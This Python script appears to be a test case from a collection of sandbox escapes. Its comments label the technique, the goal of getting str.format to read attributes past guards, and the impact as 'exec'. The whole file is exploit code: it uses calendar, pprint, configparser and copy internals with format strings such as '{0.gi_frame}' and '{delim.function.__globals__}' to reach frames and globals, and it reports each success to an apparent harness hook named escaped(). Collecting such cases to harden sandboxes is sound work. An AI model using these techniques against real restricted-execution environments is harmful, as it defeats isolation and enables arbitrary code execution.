# technique: methods of calendar, pprint and configparser go on with the format() of what stands for self, which is a text's; copies keep what slots are called, and their names change
# source: reading Python's library
# goal: str.format itself, which reads attributes past every guard
# impact: exec
import calendar
import configparser
import copy
import pprint


def generator():
    yield


running = generator()


class Text(str):
    _months = _days = [lambda form: form]
    _depth = 0


for names in (calendar.month_name, calendar.month_abbr, calendar.day_name, calendar.day_abbr):
    try:
        found = type(names).__getitem__(Text('{0.gi_frame}'), 0)
        escaped(found(running))
    except AttributeError:
        pass


class Mixed(str, pprint.PrettyPrinter):
    def __init__(self, text):
        pass


class Namesake(str):
    pass


for printer in ('  {0.gi_frame}', Text('  {0.gi_frame}'), Namesake('  {0.gi_frame}'), Mixed('  {0.gi_frame}')):
    for method in (pprint.PrettyPrinter.isrecursive, pprint.PrettyPrinter.isreadable, pprint.PrettyPrinter.pformat):
        try:
            found = method(printer, running)
        except (AttributeError, TypeError, ValueError):
            continue
        escaped(found)


class Delimiter(str):
    def translate(self, *table):
        return self


delimiter = Delimiter(':')
delimiter.function = copy.copy


class Parser(configparser.RawConfigParser):
    _OPT_TMPL = _OPT_NV_TMPL = '{delim.function.__globals__}'


for allow_no_value in (False, True):
    try:
        shown = Parser(delimiters=(delimiter,), allow_no_value=allow_no_value)._optcre.pattern
    except AttributeError:
        continue
    if 'deepcopy' in shown:
        escaped(shown)

slots = []
states = []


class Slotted(str):
    __slots__ = slots

    def __getattr__(self, name):
        if name == '__setstate__':
            return states.append
        raise AttributeError(name)


slots.extend(['format', '__getattribute__', '__setattr__'])
for _ in range(2):
    copy.copy(Slotted('{0.gi_frame}'))
for state in states:
    if type(state) is tuple and state[1]:
        escaped(state[1])
